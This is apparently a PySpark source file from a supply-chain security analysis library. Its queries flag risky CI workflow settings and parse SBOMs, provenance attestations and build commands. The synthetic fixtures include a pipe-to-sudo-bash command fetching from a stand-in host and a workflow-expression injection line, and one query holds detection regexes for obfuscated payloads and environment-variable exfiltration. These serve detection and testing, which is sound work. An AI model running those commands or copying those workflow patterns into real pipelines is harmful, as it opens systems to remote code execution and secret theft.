"""Queries of workflows, provenance, bills of materials, build specifications, dataflow and streams, each with its SQL."""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from lodeworks import sinks
from lodeworks.fact_queries import ORACLES, query
from lodeworks.functions import versions
from lodeworks.operators import build_spec, checks, dataflow, decisions, patterns, policy, provenance, resolution, sbom, tags, workflow
from lodeworks.operators.relational import first_per_group
from lodeworks.sources import readers
from lodeworks.sources.facts import NOW, Facts
from lodeworks.streaming import events

# ---------------------------------------------------------------------------------------------------------------------
# Workflows: one step per line item, with texts that depend on its keys.

_STEPS_SQL = """WITH s AS (SELECT CAST(l_orderkey AS VARCHAR) AS workflow, 'j' || l_linenumber AS job, 's' || l_partkey || '-' || l_suppkey || '-' || row_number() OVER (PARTITION BY l_orderkey, l_linenumber, l_partkey, l_suppkey) AS step,
l_orderkey % 3 AS t, l_orderkey % 4 AS wp, l_linenumber % 3 AS jp, l_suppkey % 5 AS ro, l_partkey % 7 AS u, l_partkey % 5 AS r FROM lineitem)"""


def _steps(f: Facts) -> DataFrame:
    from pyspark.sql.window import Window

    k = ["l_orderkey", "l_linenumber", "l_partkey", "l_suppkey"]
    li = f.table("lineitem").select(*k, F.row_number().over(Window.partitionBy(*k).orderBy(F.lit(1))).alias("n"))
    pick = lambda c, n, vals: F.coalesce(*[F.when(c % n == i, v) for i, v in vals.items()]) if vals else F.lit(None)
    return li.select(
        F.col("l_orderkey").cast("string").alias("workflow"),
        F.when(F.col("l_orderkey") % 3 == 0, F.array(F.lit("pull_request_target"))).when(F.col("l_orderkey") % 3 == 1, F.array(F.lit("push"), F.lit("pull_request"))).otherwise(F.array(F.lit("push"))).alias("triggers"),
        pick(F.col("l_orderkey"), 4, {0: "write-all", 1: "contents: read", 2: "contents: write"}).alias("workflow_permissions"),
        F.concat(F.lit("j"), "l_linenumber").alias("job"),
        pick(F.col("l_linenumber"), 3, {0: "issues: write", 1: "contents: read"}).alias("job_permissions"),
        F.when(F.col("l_suppkey") % 5 == 0, "[self-hosted, linux]").otherwise("hosted").alias("runs_on"),
        F.concat(F.lit("s"), "l_partkey", F.lit("-"), "l_suppkey", F.lit("-"), "n").alias("step"),
        pick(F.col("l_partkey"), 7, {0: "actions/checkout@v4", 1: "tools/lint@0123456789abcdef0123456789abcdef01234567", 2: "tools/lint@v2", 3: "./local/act"}).alias("uses"),
        F.when((F.col("l_partkey") % 7 == 0) & (F.col("l_suppkey") % 5 < 2), "${{ github.event.pull_request.head.sha }}").alias("ref_arg"),
        pick(F.col("l_partkey"), 5, {0: "curl -sSL https://x.example/i.sh | sudo bash", 1: "echo ${{ github.event.issue.body }}", 2: "wget x && echo ok", 3: "echo ${{ github.sha }}"}).alias("run"),
    )


_PR_REF = "'${{ github.event.pull_request.head.sha }}'"
_FLAGS = ", f AS (SELECT *, (u = 0 AND ro < 2) AS prref FROM s)"
_RULES = " UNION ".join(f"SELECT workflow, {j} AS job, {p} AS step, '{n}' AS finding, {d} AS detail, {k} AS priority FROM f WHERE {c}" for n, k, j, p, d, c in (
    ("overbroad-permissions", 80, "NULL", "NULL", "CASE wp WHEN 0 THEN 'write-all' ELSE 'contents: write' END", "wp = 0 OR (t = 0 AND wp = 2)"),
    ("self-hosted-runner", 60, "job", "NULL", "job", "ro = 0"),
    ("unpinned-third-party-action", 20, "job", "step", "CASE u WHEN 0 THEN 'actions/checkout@v4' ELSE 'tools/lint@v2' END", "u IN (0, 2)"),
    ("untrusted-fork-code", 100, "job", "step", _PR_REF, "prref AND t = 1"), ("pr-target-untrusted-checkout", 100, "job", "step", _PR_REF, "prref AND t = 0"),
    ("remote-script-exec", 80, "job", "step", "'curl -sSL https://x.example/i.sh | sudo bash'", "r = 0"),
    ("potential-injection", 100, "job", "step", "'echo ${{ github.event.issue.body }}'", "r = 1"),
    ("privileged-trigger", 80, "NULL", "NULL", "'pull_request_target'", "t = 0 AND (prref OR wp IN (0, 2) OR r IN (0, 1) OR ro = 0)"),
))


@query("workflow_findings", _STEPS_SQL + _FLAGS + " " + _RULES, facts=False)
def workflow_findings(f: Facts) -> DataFrame:
    return workflow.step_findings(_steps(f))


@query("workflow_issue_list", _STEPS_SQL + _FLAGS + f" SELECT workflow, list(i ORDER BY p DESC, i) AS issues FROM (SELECT DISTINCT workflow, finding || ': ' || detail AS i, priority AS p FROM ({_RULES})) GROUP BY 1", facts=False)
def workflow_issue_list(f: Facts) -> DataFrame:
    return workflow.ordered_issues(workflow.step_findings(_steps(f)))


@query("workflow_advice", _STEPS_SQL + _FLAGS + " SELECT DISTINCT finding, CASE finding " + " ".join(f"WHEN '{k}' THEN '{v}'" for k, v in workflow.RECOMMENDATION.items()) + f" END AS recommendation FROM ({_RULES})", facts=False)
def workflow_advice(f: Facts) -> DataFrame:
    return workflow.advice(workflow.step_findings(_steps(f))).select("finding", "recommendation").distinct()


@query("workflow_missing_permissions", _STEPS_SQL + " SELECT workflow, 'missing-permissions' AS finding, 60 AS priority FROM s GROUP BY workflow HAVING bool_or(wp = 3) AND bool_or(jp = 2)", facts=False)
def workflow_missing_permissions(f: Facts) -> DataFrame:
    return workflow.workflow_findings(_steps(f)).select("workflow", "finding", "priority")


@query("workflow_findings_deduped", _STEPS_SQL + _FLAGS + f" SELECT workflow, finding, max(priority) AS priority FROM ({_RULES}) GROUP BY 1, 2", facts=False)
def workflow_findings_deduped(f: Facts) -> DataFrame:
    return workflow.dedupe(workflow.step_findings(_steps(f)))


@query("vulnerable_actions", _STEPS_SQL + """ SELECT workflow, job, step, 'tools/lint' AS action, CASE u WHEN 2 THEN 'v2' ELSE '0123456789abcdef0123456789abcdef01234567' END AS version, u = 1 AS sha_pinned,
CASE u WHEN 2 THEN ['https://a.example/1', 'https://a.example/2'] ELSE ['https://a.example/1'] END AS vuln_urls, 100 AS priority FROM s WHERE u IN (1, 2)""", facts=False)
def vulnerable_actions(f: Facts) -> DataFrame:
    v = f.spark.createDataFrame([("tools/lint", "v2", "https://a.example/2"), ("tools/lint", "v2", "https://a.example/1"), ("tools/lint", "0123456789abcdef0123456789abcdef01234567", "https://a.example/1"), ("other/x", "v1", "u")], "action string, version string, url string")
    return workflow.vulnerable_actions(_steps(f), v).drop("finding")


@query("expression_references", r"""SELECT doc_id, list_distinct(regexp_extract_all(array_to_string(regexp_extract_all(text, '\$\{\{(.*?)\}\}', 1), ' '), '(github(?:\.[A-Za-z0-9_-]+)+)', 1)) AS refs FROM documents WHERE contains(text, '${{')""", facts=False)
def expression_references(f: Facts) -> DataFrame:
    return f.table("documents").where(F.contains("text", F.lit("${{"))).select("doc_id", workflow.expressions(F.col("text")).alias("refs"))


@query("first_keyword_line", r"""WITH l AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS line, generate_subscripts(string_split(text, chr(10)), 1) AS no FROM documents)
SELECT doc_id, arg_min(line, no) AS line FROM l WHERE contains(line, 'run:') OR contains(line, 'mvn ') GROUP BY 1""", facts=False)
def first_keyword_line(f: Facts) -> DataFrame:
    lines = f.table("documents").select("doc_id", F.posexplode(F.split("text", "\n")).alias("no", "line"))
    return workflow.first_keyword_line(lines, "doc_id", "line", "no", ("run:", "mvn "))


@query("job_order", """WITH j AS (SELECT o_orderkey AS workflow, unnest(range(0, 4)) AS i FROM orders) SELECT workflow, 'Job' || i AS parent, 'Job' || (i + 1) AS child FROM j WHERE i < 3""", facts=False)
def job_order(f: Facts) -> DataFrame:
    j = f.table("orders").select(F.col("o_orderkey").alias("workflow"), F.explode(F.sequence(F.lit(0), F.lit(3))).alias("i"))
    jobs = j.select("workflow", F.concat(F.lit("Job"), "i").alias("job"), F.when(F.col("i") > 0, F.array(F.concat(F.lit("JOB"), F.col("i") - 1))).otherwise(F.array().cast("array<string>")).alias("needs"))
    return workflow.job_edges(jobs)


# ---------------------------------------------------------------------------------------------------------------------
# Documents


@query("json_path_extract", "SELECT event_id, json_extract_string(props, '$.k') AS k FROM events", facts=False)
def json_path_extract(f: Facts) -> DataFrame:
    return f.table("events").select("event_id", F.try_variant_get(F.try_parse_json("props"), "$.k", "string").alias("k"))


_BOMS = "WITH b AS (SELECT bom_num AS id, bom_json AS j FROM bom_documents WHERE json_valid(bom_json)), c AS (SELECT DISTINCT id, json_extract_string(x, '$.\"bom-ref\"') AS ref, json_extract_string(x, '$.purl') AS purl FROM (SELECT id, unnest(CAST(json_extract(j, '$.components') AS JSON[])) AS x FROM b)), d AS (SELECT DISTINCT id, json_extract_string(x, '$.ref') AS parent_ref, unnest(CAST(json_extract(x, '$.dependsOn') AS VARCHAR[])) AS child_ref FROM (SELECT id, unnest(CAST(json_extract(j, '$.dependencies') AS JSON[])) AS x FROM b))"


@query("sbom_resolve", _BOMS + " SELECT d.id, d.parent_ref, d.child_ref, c.purl FROM d JOIN c ON c.id = d.id AND c.ref = d.child_ref", facts=False)
def sbom_resolve(f: Facts) -> DataFrame:
    return sbom.resolved(sbom.parsed(f.table("bom_documents"), "bom_num", "bom_json")).select("id", "parent_ref", "child_ref", "purl")


@query("sbom_components", _BOMS + " SELECT id, ref, purl FROM c WHERE ref IS NOT NULL", facts=False)
def sbom_components(f: Facts) -> DataFrame:
    return sbom.components(sbom.parsed(f.table("bom_documents"), "bom_num", "bom_json")).select("id", "ref", "purl")


_ATT = """WITH a AS (SELECT att_num, trim(payload, ' ' || chr(10) || chr(9) || chr(13)) AS p FROM attestations WHERE payload IS NOT NULL),
b AS (SELECT att_num, p, rtrim(regexp_replace(translate(p, '-_', '+/'), '\\s', '', 'g'), '=') AS x FROM a),
v AS (SELECT att_num, CASE WHEN starts_with(p, '{') THEN p WHEN regexp_full_match(x, '[A-Za-z0-9+/]+') AND length(x) % 4 <> 1 THEN TRY(decode(from_base64(rpad(x, CAST(ceil(length(x) / 4.0) * 4 AS INTEGER), '=')))) END AS j FROM b),
d AS (SELECT att_num, j FROM v WHERE json_valid(j))"""


def _statements(f: Facts) -> DataFrame:
    return f.table("attestations").select("att_num", provenance.statement(F.col("payload")).alias("v")).where("v is not null")


_CLEAN = "regexp_replace(regexp_replace({0}, '^git\\+', ''), '@[^/@]*(?:/[^@]*)?$', '')"
_V2 = "json_extract_string(j, '$.predicate.invocation.configSource.uri')"


@query("provenance_source", _ATT + f""" SELECT att_num, CASE WHEN json_extract_string(j, '$.predicateType') LIKE '%v0.2' THEN {_CLEAN.format(_V2)} ELSE json_extract_string(j, '$.predicate.buildDefinition.externalParameters.workflow.repository') END AS repository,
CASE WHEN json_extract_string(j, '$.predicateType') LIKE '%v0.2' THEN json_extract_string(j, '$.predicate.invocation.configSource.digest.sha1') ELSE (SELECT first(json_extract_string(r, '$.digest.gitCommit') ORDER BY i) FROM (SELECT unnest(CAST(json_extract(j, '$.predicate.buildDefinition.resolvedDependencies') AS JSON[])) AS r, generate_subscripts(CAST(json_extract(j, '$.predicate.buildDefinition.resolvedDependencies') AS JSON[]), 1) AS i)
WHERE {_CLEAN.format("json_extract_string(r, '$.uri')")} = json_extract_string(j, '$.predicate.buildDefinition.externalParameters.workflow.repository')) END AS commit FROM d""", facts=False)
def provenance_source(f: Facts) -> DataFrame:
    return provenance.source_of(_statements(f)).select("att_num", "repository", "commit")


@query("provenance_subjects", _ATT + """ SELECT att_num, CAST(i - 1 AS INTEGER) AS pos, json_extract_string(s, '$.name') AS name, json_extract_string(s, '$.digest.sha256') AS sha256 FROM (SELECT att_num, unnest(CAST(json_extract(j, '$.subject') AS JSON[])) AS s, generate_subscripts(CAST(json_extract(j, '$.subject') AS JSON[]), 1) AS i FROM d)""", facts=False)
def provenance_subjects(f: Facts) -> DataFrame:
    return provenance.subjects(_statements(f), "att_num")


@query("provenance_build", _ATT + """ SELECT att_num, coalesce(json_extract_string(j, '$.predicate.buildType'), json_extract_string(j, '$.predicate.buildDefinition.buildType')) AS build_type,
json_extract_string(j, '$.predicate.invocation.configSource.entryPoint') AS workflow, json_extract_string(j, '$.predicate.runDetails.metadata.invocationId') AS run FROM d""", facts=False)
def provenance_build(f: Facts) -> DataFrame:
    return _statements(f).select("att_num", provenance.build_type().alias("build_type"), provenance.invocation_of().alias("i")).select("att_num", "build_type", "i.workflow", "i.run")


@query("vsa_subjects", """+ ok AS (SELECT purl, max(c.id) AS component_id FROM component c JOIN check_result r ON r.component_id = c.id AND r.check_id = 'mcn_build_script_1' AND r.passed = 1 WHERE c.id % 3 <> 0 GROUP BY 1)
SELECT purl, component_id, CASE WHEN component_id % 2 = 0 THEN sha256(CAST(component_id AS VARCHAR)) END AS sha256 FROM ok WHERE component_id % 10 <> 4""")
def vsa_subjects(f: Facts) -> DataFrame:
    ok = policy.check_passed(f.check_result).where("check_id = 'mcn_build_script_1'").select(F.col("component_id"))
    sat = f.component.where("id % 3 <> 0").select(F.col("id").alias("component_id"), "purl").join(ok, "component_id").withColumn("policy", F.lit("p"))
    digest = F.sha2(F.col("component_id").cast("string"), 256)
    d = sat.where("component_id % 2 = 0").select("component_id", digest.alias("sha256"))
    twice = d.union(d.where("component_id % 10 = 4"))
    return provenance.verification_summary(sat, sat.where("1 = 0"), "p", twice).select("purl", "component_id", "sha256")


@query("check_report", """SELECT component_id, '{"component_id":' || component_id || ',"results":[' || string_agg('{"check_id":"' || check_id || '","passed":' || passed || '}', ',' ORDER BY check_id) || ']}' AS report FROM check_result GROUP BY 1""")
def check_report(f: Facts) -> DataFrame:
    return sinks.json_report(f.check_result.select("component_id", "check_id", "passed"), "component_id")


@query("markdown_summary", """SELECT '| ' || id || ' | ' || check_id || ' |' AS line FROM check_result ORDER BY id DESC LIMIT 10""")
def markdown_summary(f: Facts) -> DataFrame:
    return sinks.markdown_rows(f.check_result, ["id", "check_id"], [F.col("id").desc()])


# ---------------------------------------------------------------------------------------------------------------------
# Builds


@query("wheel_tags", r"""SELECT file_id, regexp_extract(filename, '^.+-([^-]+)-([^-]+)-([^-]+)\.whl$', 1) AS python, regexp_extract(filename, '^.+-([^-]+)-([^-]+)-([^-]+)\.whl$', 3) AS platform FROM release_files WHERE regexp_full_match(filename, '.+-[^-]+-[^-]+-[^-]+\.whl')""", facts=False)
def wheel_tags(f: Facts) -> DataFrame:
    t = f.table("release_files").select("file_id", build_spec.wheel_tags(F.col("filename")).alias("t")).where("t is not null")
    return t.select("file_id", "t.python", "t.platform")


@query("jdk_versions", """SELECT DISTINCT release_version, CASE WHEN m BETWEEN 5 AND 24 THEN CAST(m AS VARCHAR) END AS jdk FROM (SELECT release_version, TRY_CAST(regexp_extract(release_version, '^\\s*(?:1\\.)?([0-9]+)', 1) AS INTEGER) AS m FROM release_files)""", facts=False)
def jdk_versions(f: Facts) -> DataFrame:
    return f.table("release_files").select("release_version", versions.jdk_version(F.col("release_version")).alias("jdk")).distinct()


@query("version_parts", "SELECT DISTINCT release_version, regexp_extract_all(lower(release_version), '([0-9a-z]+)', 1) AS parts FROM release_files", facts=False)
def version_parts(f: Facts) -> DataFrame:
    return f.table("release_files").select("release_version", versions.version_parts(F.col("release_version")).alias("parts")).distinct()


@query("requirement_merge", """WITH r AS (SELECT o_custkey AS k, 'req' || o_orderkey % 5 AS name, CASE WHEN o_orderkey % 3 = 0 THEN '==' || o_orderkey % 7 END AS version, o_orderkey AS o FROM orders),
m AS (SELECT k, name, arg_min(version, o) FILTER (version IS NOT NULL) AS v FROM r GROUP BY 1, 2) SELECT k, list(name || coalesce(v, '') ORDER BY name || coalesce(v, '')) AS requirements FROM m GROUP BY 1""", facts=False)
def requirement_merge(f: Facts) -> DataFrame:
    o = F.col("o_orderkey")
    r = f.table("orders").select(F.col("o_custkey").alias("k"), F.concat(F.lit("req"), o % 5).alias("name"), F.when(o % 3 == 0, F.concat(F.lit("=="), o % 7)).alias("version"), o.alias("o"))
    return build_spec.merge_requirements(r, "k", "name", "version", "o")


@query("python_constraints", """WITH r AS (SELECT o_custkey AS k, CASE o_orderkey % 4 WHEN 0 THEN 'dependency' WHEN 1 THEN 'release' ELSE 'wheel' END AS s, '>=3.' || o_orderkey % 6 AS c FROM orders WHERE o_orderkey % 8 <> 0)
SELECT k, coalesce(list(DISTINCT c ORDER BY c) FILTER (s = 'dependency'), list(DISTINCT c ORDER BY c) FILTER (s <> 'dependency')) AS constraints FROM r GROUP BY 1""", facts=False)
def python_constraints(f: Facts) -> DataFrame:
    o = F.col("o_orderkey")
    r = f.table("orders").where("o_orderkey % 8 <> 0").select(F.col("o_custkey").alias("k"), F.when(o % 4 == 0, "dependency").when(o % 4 == 1, "release").otherwise("wheel").alias("s"), F.concat(F.lit(">=3."), o % 6).alias("c"))
    return build_spec.python_constraints(r, "k", "s", "c")


@query("detection_confidence", """SELECT o_custkey AS k, o_orderkey AS o, pow(0.5, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderkey) - 1) AS confidence FROM orders""", facts=False)
def detection_confidence(f: Facts) -> DataFrame:
    return checks.decayed_confidence(f.table("orders").select(F.col("o_custkey").alias("k"), F.col("o_orderkey").alias("o")), "k", "o")


@query("outermost_directories", """WITH d AS (SELECT DISTINCT o_custkey % 50 AS k, 'a' || o_orderkey % 3 || CASE WHEN o_orderkey % 2 = 0 THEN '/b' || o_orderkey % 5 ELSE '' END || CASE WHEN o_orderkey % 4 = 0 THEN '/c' ELSE '' END AS path FROM orders)
SELECT k, path FROM d WHERE NOT EXISTS (SELECT 1 FROM d e WHERE e.k = d.k AND starts_with(d.path, e.path || '/'))""", facts=False)
def outermost_directories(f: Facts) -> DataFrame:
    o = F.col("o_orderkey")
    path = F.concat(F.lit("a"), o % 3, F.when(o % 2 == 0, F.concat(F.lit("/b"), o % 5)).otherwise(""), F.when(o % 4 == 0, "/c").otherwise(""))
    return checks.outermost_directories(f.table("orders").select((F.col("o_custkey") % 50).alias("k"), path.alias("path")), "k", "path")


@query("days_since_release", f"""SELECT package, date_diff('second', max(upload_time), TIMESTAMP '{NOW}') // 86400 AS days FROM releases GROUP BY 1""")
def days_since_release(f: Facts) -> DataFrame:
    return f.releases.groupBy("package").agg(F.max("upload_time").alias("t")).select("package", F.expr(f"timestampdiff(SECOND, t, TIMESTAMP_NTZ '{NOW}') div 86400").alias("days"))


@query("build_spec", """+ k AS (SELECT id, component_id, tool, confidence FROM (SELECT r.id, r.component_id, CASE r.component_id % 3 WHEN 0 THEN 'maven' WHEN 1 THEN 'gradle' ELSE 'pip' END AS tool, f.confidence,
row_number() OVER (PARTITION BY r.component_id ORDER BY CASE r.check_id WHEN 'mcn_build_as_code_1' THEN 0 WHEN 'mcn_build_service_1' THEN 1 ELSE 2 END, f.confidence DESC, r.id) AS n
FROM check_result r JOIN check_facts f ON f.check_result_id = r.id WHERE r.check_id IN ('mcn_build_as_code_1', 'mcn_build_service_1', 'mcn_build_script_1') AND r.component_id % 4 <> 0) WHERE n = 1)
SELECT c.id AS component_id, c.purl, k.tool, coalesce(k.tool || ' build', CASE c.id % 3 WHEN 0 THEN 'mvn clean package' WHEN 1 THEN 'gradle clean assemble publishToMavenLocal' ELSE 'python -m build --wheel -n' END) AS command FROM component c LEFT JOIN k ON k.component_id = c.id""")
def build_specs(f: Facts) -> DataFrame:
    tool = F.when(F.col("component_id") % 3 == 0, "maven").when(F.col("component_id") % 3 == 1, "gradle").otherwise("pip")

    def source(check: str) -> DataFrame:
        cmd = F.when(F.col("component_id") % 4 != 0, F.concat(F.lit('["'), tool, F.lit(' build"]'))).otherwise("not json")
        cf = f.check_facts.select(F.col("check_result_id").alias("id"), "confidence")
        return f.check_result.where(F.col("check_id") == check).join(cf, "id").select("id", "component_id", tool.alias("build_tool_name"), "confidence", cmd.alias("command"))

    best = build_spec.build_commands(*[source(c) for c in ("mcn_build_as_code_1", "mcn_build_service_1", "mcn_build_script_1")])
    one = first_per_group(best, ["component_id"], [F.col("confidence").desc(), F.col("id")])
    j = f.component.select(F.col("id").alias("component_id"), "purl").join(one.select("component_id", F.col("build_tool_name").alias("tool"), build_spec.compose(F.col("args")).alias("cmd")), "component_id", "left")
    return j.select("component_id", "purl", "tool", F.coalesce("cmd", build_spec.default_command(tool)).alias("command"))


# ---------------------------------------------------------------------------------------------------------------------
# Tags, dataflow, streams


@query("tag_match")
def tag_match(f: Facts) -> DataFrame:
    r = f.table("release_files").where("package_name is not null and release_version is not null").select(F.col("package_name").alias("repo"), F.col("package_name").alias("name"), F.col("release_version").alias("version")).distinct()
    h = F.pmod(F.xxhash64("repo", "version"), F.lit(4))
    t = r.select("repo", F.when(h == 0, F.concat(F.lit("v"), "version")).when(h == 1, F.concat("name", F.lit("-"), F.replace("version", F.lit("."), F.lit("_")))).when(h == 2, F.concat(F.lit("release/"), "version")).otherwise(F.concat("version", F.lit("-final"))).alias("tag"))
    return tags.match_tags(r, t)


@query("tag_list", """SELECT s_suppkey AS repo, 'v' || s_suppkey || '.0' AS tag, 'peeled' || s_suppkey AS commit FROM supplier UNION ALL SELECT s_suppkey, 'rc 1', 'plain' || s_suppkey FROM supplier""", facts=False)
def tag_list(f: Facts) -> DataFrame:
    k = F.col("s_suppkey")
    text = F.concat(F.lit("plain"), k, F.lit("\trefs/tags/rc 1\nobj"), k, F.lit("\trefs/tags/v"), k, F.lit(".0\npeeled"), k, F.lit(" refs/tags/v"), k, F.lit(".0^{}\n"))
    return tags.parse_tags(f.table("supplier").select(k.alias("repo"), text.alias("t")), "repo", "t")


@query("pseudo_versions", """SELECT o_orderkey AS id, 'v1.0.' || o_orderkey % 9 AS base, strptime(strftime(o_orderdate, '%Y%m%d%H%M%S'), '%Y%m%d%H%M%S') AS time, substr(md5(CAST(o_orderkey AS VARCHAR)), 1, 12) AS commit FROM orders""", facts=False)
def pseudo_versions(f: Facts) -> DataFrame:
    o = F.col("o_orderkey")
    v = F.concat(F.lit("v1.0."), o % 9, F.lit("-"), F.date_format("o_orderdate", "yyyyMMddHHmmss"), F.lit("-"), F.substring(F.md5(o.cast("string")), 1, 12))
    return f.table("orders").select(o.alias("id"), versions.pseudo_version(v).alias("p")).select("id", "p.*")


@query("dataflow_fixpoint", """+ nodes AS (SELECT id AS node FROM component), edges AS (SELECT d.parent AS src, d.child AS dst FROM dependency d),
st AS (SELECT node, 'a' AS location, 'lit' || node AS value FROM nodes WHERE node % 5 = 0
UNION SELECT t.node, t.location, t.value FROM st s, LATERAL (SELECT e.dst AS node, s.location AS location, s.value AS value FROM edges e WHERE e.src = s.node
UNION ALL SELECT s.node, 'b', 'x' || s.value WHERE s.location = 'a' AND s.node % 5 = 1) t)
SELECT node, location, value FROM st""")
def dataflow_fixpoint(f: Facts) -> DataFrame:
    nodes = f.component.select(F.col("id").alias("node"))
    edges = f.dependency.select(F.col("parent").alias("src"), F.col("child").alias("dst"))
    none = F.lit(None).cast("string")
    lit = nodes.where("node % 5 = 0").select("node", F.lit("./a").alias("location"), F.concat(F.lit("lit"), "node").alias("prefix"), none.alias("source"), none.alias("suffix"))
    cat = nodes.where("node % 5 = 1").select("node", F.lit("b").alias("location"), F.lit("x").alias("prefix"), F.lit("a").alias("source"), none.alias("suffix"))
    return dataflow.fixpoint(lit.union(cat), edges)


@query("shell_interpretation")
def shell_interpretation(f: Facts) -> DataFrame:
    d = f.table("documents").where("text like '%run:%'").select("doc_id", F.concat_ws("\n", F.regexp_extract_all("text", F.lit(r"(?m)^\s*(?:- )?run: (.*)$"), F.lit(1))).alias("s"))
    return dataflow.interpret_scripts(d, "doc_id", "s")


@query("page_links", r"""SELECT doc_id, regexp_extract_all(text, '(?i)<a\s[^>]*href\s*=\s*["'']([^"'']*)["'']', 1) AS links FROM documents WHERE text IS NOT NULL""", facts=False)
def page_links(f: Facts) -> DataFrame:
    return f.table("documents").where("text is not null").select("doc_id", readers.page_links(F.col("text")).alias("links"))


@query("streaming_event_counts", "SELECT time_bucket(INTERVAL 1 DAY, ts) AS window_start, event_type, count(*) AS n FROM events GROUP BY 1, 2", facts=False)
def streaming_event_counts(f: Facts) -> DataFrame:
    name = f"counts_{uuid.uuid4().hex}"
    events.drain(events.windowed_counts(events.read_events(f.spark, f"{f.folder}/events.parquet*")), name, "complete")
    return f.spark.table(name)


# ---------------------------------------------------------------------------------------------------------------------
# Patterns, commands, resolution


@query("suspicious_patterns", r"""WITH l AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS t FROM documents WHERE text IS NOT NULL)
SELECT doc_id, CASE WHEN bool_or(regexp_matches(t, '(?i)\b(?:vmware|virtualbox|qemu|sandboxie)\b') OR regexp_matches(t, '\bsys\.gettrace\s*\(\s*\)') OR regexp_matches(t, '(?:\\x[0-9a-fA-F]{2}){8,}')
OR regexp_matches(t, '\b(?:exec|eval)\s*\(.*\b(?:b64decode|unhexlify|fromhex|decompress|loads)\s*\(') OR regexp_matches(t, 'join\s*\(\s*(?:map\s*\(\s*chr\b|\[?\s*chr\s*\()')
OR regexp_matches(t, '__import__\s*\(\s*(?:[^"''\s]|$)') OR regexp_matches(t, '\b(?:post|put|urlopen|request)\s*\(.*\bos\.environ\b')) THEN 'FAIL' ELSE 'PASS' END AS result FROM l GROUP BY 1""", facts=False)
def suspicious_patterns(f: Facts) -> DataFrame:
    d = f.table("documents").where("text is not null")
    lines = d.select("doc_id", F.lit("text").alias("path"), F.posexplode(F.split("text", "\n")).alias("no", "t"))
    return patterns.suspicious(patterns.pattern_hits(lines, "doc_id", "path", "no", "t"), d, "doc_id")


@query("provenance_expectation", _ATT + r""" SELECT att_num, json_extract_string(j, '$.predicateType') IS NOT NULL AND regexp_full_match(json_extract_string(j, '$.predicateType'), '.*/v0\.2') AND regexp_full_match(coalesce(json_extract_string(j, '$.predicate.buildType'), ''), '.*/go@v1') AS met FROM d""", facts=False)
def provenance_expectation(f: Facts) -> DataFrame:
    met = patterns.expectation(F.col("v"), {"$.predicateType": r".*/v0\.2", "$.predicate.buildType": ".*/go@v1"})
    return _statements(f).select("att_num", met.alias("met"))


@query("lowest_satisfying_version", """WITH r AS (SELECT package_name, release_version, list_resize(list_transform(string_split(release_version, '.'), lambda t: CAST(t AS BIGINT)), 6, 0) AS k FROM release_files)
SELECT package_name, min(k) AS k FROM r WHERE k[1] >= 2 AND k[1] < 6 GROUP BY 1""", facts=False)
def lowest_satisfying_version(f: Facts) -> DataFrame:
    low = patterns.lowest_satisfying(f.table("release_files"), "package_name", "release_version", ">=2,<6")
    parts = F.transform(F.split("release_version", r"\."), lambda x: x.try_cast("bigint"))
    return low.select("package_name", F.slice(F.concat(parts, F.array_repeat(F.lit(0).cast("bigint"), 6)), 1, 6).alias("k"))


@query("command_parse", """SELECT p_partkey AS id, CASE WHEN p_partkey % 3 = 2 THEN NULL ELSE CASE p_partkey % 3 WHEN 0 THEN 'mvn' ELSE 'gradle' END END AS tool,
CASE WHEN p_partkey % 3 = 0 THEN 'mvn clean package -f pom' || p_partkey || '.xml -DskipTests -Dv=' || p_size WHEN p_partkey % 3 = 1 THEN 'gradle assemble -x test -Dv=' || p_size END AS command FROM part""", facts=False)
def command_parse(f: Facts) -> DataFrame:
    k = F.col("p_partkey")
    text = F.when(k % 3 == 0, F.concat(F.lit("./mvnw -f pom"), k, F.lit(".xml clean -DskipTests 'package' -D v="), "p_size")).when(k % 3 == 1, F.concat(F.lit("gradle -x test assemble -Pv="), "p_size")).otherwise("make all")
    p = patterns.parse_commands(f.table("part").select(k.alias("id"), text.alias("t")), "id", "t")
    return p.select("id", "tool", patterns.patched_command(F.col("tool"), F.col("goals"), F.col("options"), F.col("properties")).alias("command"))


@query("repository_finder", """SELECT id, CASE WHEN id % 3 = 0 THEN 'https://' || complete_name WHEN id % 3 = 1 THEN 'https://github.com/other/r' || id END AS repository,
CASE WHEN id % 3 = 0 THEN 'found_in_metadata' WHEN id % 3 = 1 THEN 'found_in_index' ELSE 'no_repository' END AS outcome FROM repository""")
def repository_finder(f: Facts) -> DataFrame:
    i = F.col("id")
    r = f.repository.select("id", F.when(i % 3 == 0, F.array(F.lit("https://example.org/x"), F.concat(F.lit("git+https://"), "complete_name", F.lit(".git")))).otherwise(F.array(F.lit("not a url"))).alias("meta"), F.when(i % 3 == 1, F.array(F.concat(F.lit("git@github.com:other/r"), i))).alias("idx"))
    return resolution.find_repository(r, "id", [("meta", "found_in_metadata"), ("idx", "found_in_index")])


@query("artifact_pipeline", f"""+ m AS (SELECT package, seq, upload_time, upload_time - (seq % 5 - 1) * INTERVAL 1 HOUR AS committed_at FROM releases),
n AS (SELECT m.package, m.seq, r.run_id, row_number() OVER (PARTITION BY m.package, m.seq ORDER BY r.started_at DESC, r.run_id) AS k FROM m JOIN ci_runs r ON r.package = m.package AND r.started_at < m.upload_time
AND r.started_at >= m.upload_time - INTERVAL 43200 SECOND AND abs(date_diff('second', committed_at, r.started_at)) <= 21600)
SELECT m.package, m.seq, n.run_id, m.upload_time < m.committed_at AS published_before_commit, n.run_id IS NULL AND TIMESTAMP '{NOW}' - INTERVAL 400 DAY > m.upload_time AS run_deleted FROM m LEFT JOIN n ON n.package = m.package AND n.seq = m.seq AND n.k = 1""")
def artifact_pipeline(f: Facts) -> DataFrame:
    commits = f.releases.select("package", "seq", F.expr("upload_time - make_interval(0, 0, 0, 0, seq % 5 - 1)").alias("committed_at"))
    return resolution.artifact_pipeline(f.releases, f.ci_runs, commits, NOW, 12 * 3600)


@query("nearest_ancestor", """+ up AS (SELECT p_partkey AS node, p_partkey AS pos FROM part UNION ALL SELECT node, pos // 2 FROM up WHERE pos % 7 <> 0 AND pos // 2 > 0)
SELECT node, pos AS ancestor FROM up WHERE pos % 7 = 0""")
def nearest_ancestor(f: Facts) -> DataFrame:
    k = F.col("p_partkey")
    n = f.table("part").select(k.alias("node"), F.when(F.expr("p_partkey div 2") > 0, F.expr("p_partkey div 2")).alias("parent"), F.when(k % 7 == 0, "job").otherwise("step").alias("kind"))
    return resolution.nearest_ancestor(n, "job")

